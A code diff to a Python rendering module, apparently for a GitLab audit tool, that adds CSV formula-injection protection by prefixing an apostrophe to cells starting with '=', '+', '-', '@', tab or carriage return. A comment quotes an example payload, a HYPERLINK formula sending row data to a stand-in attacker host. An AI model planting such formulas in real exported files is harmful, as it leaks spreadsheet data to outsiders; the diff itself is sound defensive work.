@@ -19,12 +19,30 @@ FORMATS = ("table", "json", "csv")
 _UNSAFE_ON_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: a GitLab title
+# such as =HYPERLINK("https://evil.example/?"&B2) would send the row elsewhere when an
+# auditor opens the file.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(text: str) -> str:
+    """``text`` for a CSV cell: with a leading apostrophe when a spreadsheet would read
+    it as a formula (OWASP's advice), else unchanged. Numbers never pass through here."""
+    return "'" + text if text.startswith(_FORMULA_STARTS) else text
+
+
 def _cell(value: Any) -> str:
     if value is None:
         return ""
     if isinstance(value, list | tuple):
         return ", ".join(str(v) for v in value)
     return str(value)
+
+
+def _csv_cell(value: Any) -> Any:
+    if isinstance(value, str | list | tuple):
+        return spreadsheet_text(_cell(value))
+    return value
 
 
 def _terminal_cell(value: Any) -> Text:
@@ -54,7 +72,7 @@ def render(
         writer = csv.DictWriter(buffer, fieldnames=list(columns), extrasaction="ignore")
         writer.writeheader()
         for item in items:
-            writer.writerow({c: _cell(item.get(c)) for c in columns})
+            writer.writerow({c: _csv_cell(item.get(c)) for c in columns})
         return buffer.getvalue()
     table = Table(title=title, show_lines=False)
     for column in columns:
